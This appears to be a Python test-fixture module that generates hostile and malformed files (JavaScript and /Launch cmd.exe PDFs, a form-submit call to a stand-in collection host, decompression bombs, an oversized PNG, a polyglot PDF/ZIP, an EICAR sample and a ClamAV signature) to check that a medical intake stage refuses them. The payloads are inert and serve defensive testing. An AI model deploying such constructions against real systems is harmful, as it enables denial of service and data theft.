"""Hostile and malformed inputs the intake stage must refuse. Each entry yields the file's bytes
and its expected reject class; alternative classes that are also a correct refusal (a ZIP named
.pdf is both an archive and a type mismatch) are listed as acceptable."""

import base64
import functools
import io
import struct
import zipfile
import zlib

import pikepdf

from .rawpdf import build, pdf_string, stream, text_page_objects

# The EICAR test string is assembled at run time so that this source file is not itself flagged.
EICAR = base64.b64decode(
    b"WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")
ONE_GIB = 1 << 30
NOTICE = ["Synthetic test file for the mi intake stage.", "It contains no patient information."]


def _plain_pdf(catalog_extra=b"", extra_objects=()):
    objects = text_page_objects(NOTICE, catalog_extra)
    return build(objects + list(extra_objects))


def encrypted(user_password):
    source = pikepdf.open(io.BytesIO(_plain_pdf()))
    buffer = io.BytesIO()
    # RC4-128 (R3) has no random IV, so the file is reproducible with a static /ID.
    source.save(buffer, static_id=True,
                encryption=pikepdf.Encryption(owner="mi-owner-secret", user=user_password, R=3,
                                              aes=False, metadata=False))
    return buffer.getvalue()


def javascript_open_action():
    return _plain_pdf(b"/OpenAction 6 0 R ", [b"<< /S /JavaScript /JS " + pdf_string(
        "app.alert('mi test: this action must never run');") + b" >>"])


def javascript_name_tree():
    return _plain_pdf(b"/Names << /JavaScript 6 0 R >> ", [
        b"<< /Names [(init) 7 0 R] >>",
        b"<< /S /JavaScript /JS 8 0 R >>",
        stream(b"", b"this.submitForm({cURL: 'http://example.invalid/collect'});")])


def launch_action():
    return _plain_pdf(b"/OpenAction 6 0 R ", [
        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c echo mi-launch-test) >> /NewWindow true >>"])


def embedded_file():
    payload = b"An attachment inside a PDF. Intake must refuse or strip it.\n"
    return _plain_pdf(b"/Names << /EmbeddedFiles 6 0 R >> ", [
        b"<< /Names [(notes.txt) 7 0 R] >>",
        b"<< /Type /Filespec /F (notes.txt) /UF (notes.txt) /EF << /F 8 0 R >> >>",
        stream(b"/Type /EmbeddedFile /Subtype /text#2Fplain", payload)])


def xfa_form():
    xdp = (b'<?xml version="1.0" encoding="UTF-8"?>\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
           b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
           b'<field name="patientName"><ui><textEdit/></ui></field></subform></template></xdp:xdp>\n')
    return _plain_pdf(b"/AcroForm << /Fields [] /XFA 6 0 R /NeedsRendering true >> ", [stream(b"", xdp)])


def truncated():
    lines = NOTICE + ["Line %02d of a page that was cut off in transfer." % i for i in range(30)]
    whole = build(text_page_objects(lines))
    return whole[:len(whole) * 55 // 100]


def corrupt():
    body = bytes((i * 73 + 41) % 251 for i in range(3000))
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R" + body + b"\n%%EOF\n"


def zip_archive():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("referral.txt", "scan.txt"):
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, "mi test archive member %s\n" % name)
    return buffer.getvalue()


def tiny_elf():
    """A 64-bit x86-64 Linux executable of 129 bytes whose only instructions call exit(0)."""
    code = bytes([0x31, 0xff, 0xb8, 0x3c, 0, 0, 0, 0x0f, 0x05])  # xor edi,edi; mov eax,60; syscall
    base, header_size = 0x400000, 64 + 56
    entry = base + header_size
    elf_header = (b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
                  + struct.pack("<HHIQQQIHHHHHH", 2, 0x3e, 1, entry, 64, 0, 0, 64, 56, 1, 0, 0, 0))
    size = header_size + len(code)
    program_header = struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, 0x1000)
    return elf_header + program_header + code


def shell_script():
    return (b"#!/bin/sh\n# mi test input: a script renamed .pdf; intake must refuse it.\n"
            b"echo 'this script must never be executed'\nexit 0\n")


def _bomb(filters, data):
    content = stream(b"/Filter " + filters, data)
    objects = text_page_objects(NOTICE)
    objects[3] = content
    return build(objects)


@functools.lru_cache(maxsize=None)
def _deflated_spaces(size):
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    parts = [compressor.compress(chunk) for _ in range(size // len(chunk))]
    parts.append(compressor.flush())
    return b"".join(parts)


def decompression_bomb():
    """A page content stream of 1 GiB of spaces (valid PDF syntax), Flate-compressed to ~1 MiB."""
    return _bomb(b"/FlateDecode", _deflated_spaces(ONE_GIB))


def nested_decompression_bomb():
    """The same 1 GiB stream compressed twice ([/FlateDecode /FlateDecode]): a 2 KiB file."""
    return _bomb(b"[/FlateDecode /FlateDecode]", zlib.compress(_deflated_spaces(ONE_GIB), 9))


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_pixel_png():
    """A PNG whose header declares 60000 x 60000 grey pixels (3.6 gigapixels); only the first rows
    are present, which is enough for a decoder that trusts the header to try to allocate it all."""
    width = height = 60000
    rows = b"".join(b"\x00" + b"\xff" * width for _ in range(16))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(rows, 9)) + _png_chunk(b"IEND", b""))


def small_png():
    rows = b"".join(b"\x00" + bytes((x * 4 + y) % 256 for x in range(64)) for y in range(64))
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 64, 64, 8, 0, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(rows, 9)) + _png_chunk(b"IEND", b""))


def eicar_in_pdf():
    """A well-formed PDF carrying the EICAR test string as an uncompressed stream object."""
    return _plain_pdf(b"", [stream(b"/Type /XObject /Subtype /Form /BBox [0 0 1 1]", EICAR)])


def polyglot_pdf_zip():
    """A valid PDF with a ZIP archive appended: PDF readers and unzip both accept it."""
    return _plain_pdf() + zip_archive()


BAD_INPUTS = [
    ("encrypted-user-password.pdf", lambda: encrypted("mi-user-secret"), "pdf_encrypted", [],
     "RC4-128 encrypted; opening needs a user password"),
    ("encrypted-owner-only.pdf", lambda: encrypted(""), "pdf_encrypted", [],
     "encrypted with an empty user password (opens without a prompt, still encrypted)"),
    ("javascript-openaction.pdf", javascript_open_action, "pdf_javascript", [],
     "document-level /OpenAction running JavaScript"),
    ("javascript-names.pdf", javascript_name_tree, "pdf_javascript", [],
     "JavaScript in the /Names /JavaScript tree"),
    ("launch-action.pdf", launch_action, "pdf_launch_action", [],
     "/OpenAction /Launch of cmd.exe"),
    ("embedded-file.pdf", embedded_file, "pdf_embedded_file", [],
     "an attachment in /Names /EmbeddedFiles"),
    ("xfa-form.pdf", xfa_form, "pdf_xfa", [], "an XFA form in /AcroForm /XFA"),
    ("truncated.pdf", truncated, "pdf_corrupt", [], "a valid PDF cut at 55% of its length"),
    ("corrupt.pdf", corrupt, "pdf_corrupt", [], "a PDF header followed by garbage"),
    ("zip-renamed.pdf", zip_archive, "archive", ["type_mismatch"], "a ZIP archive named .pdf"),
    ("elf-renamed.pdf", tiny_elf, "executable", ["type_mismatch"],
     "a 129-byte x86-64 ELF executable named .pdf"),
    ("script-renamed.pdf", shell_script, "script", ["type_mismatch"], "a shell script named .pdf"),
    ("png-renamed.pdf", small_png, "type_mismatch", [], "a PNG image named .pdf"),
    ("decompression-bomb.pdf", decompression_bomb, "decompression_bomb", [],
     "a Flate content stream that inflates to 1 GiB"),
    ("decompression-bomb-nested.pdf", nested_decompression_bomb, "decompression_bomb", [],
     "a doubly Flate-compressed content stream that inflates to 1 GiB"),
    ("huge-pixels.png", huge_pixel_png, "pixel_limit", ["image_corrupt"],
     "a PNG header declaring 60000 x 60000 pixels"),
    ("eicar-stream.pdf", eicar_in_pdf, "malware", [],
     "a valid PDF with the EICAR antivirus test string in a stream"),
    ("eicar.pdf", lambda: EICAR, "malware", ["type_mismatch"],
     "the 68-byte EICAR antivirus test file named .pdf"),
    ("polyglot-pdf-zip.pdf", polyglot_pdf_zip, "polyglot", ["archive", "type_mismatch"],
     "a valid PDF that is also a valid ZIP archive"),
]


def clamav_signature_db():
    """A one-line ClamAV extended signature (.ndb) that matches the EICAR string anywhere."""
    return b"Mi.Test.EICAR-1:0:*:" + EICAR.hex().encode() + b"\n"
